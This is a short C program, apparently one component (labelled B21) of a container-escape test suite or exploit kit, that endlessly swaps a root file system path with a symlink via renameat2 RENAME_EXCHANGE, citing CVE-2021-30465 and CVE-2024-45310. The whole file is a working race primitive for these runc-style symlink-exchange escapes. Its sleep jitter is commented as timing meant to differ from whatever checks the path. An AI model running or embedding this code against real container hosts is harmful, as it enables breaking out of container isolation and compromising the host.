/* B21: exchanges a root file system for a link to another directory and back, without end; source: CVE-2021-30465, CVE-2024-45310 */
#include "escape.h"

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (unsigned long i = 0;; i++) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */))
			return 3;
		if (i % 9 == 0)
			usleep(i % 7 * 300); /* another rhythm than that of whoever looks */
	}
}
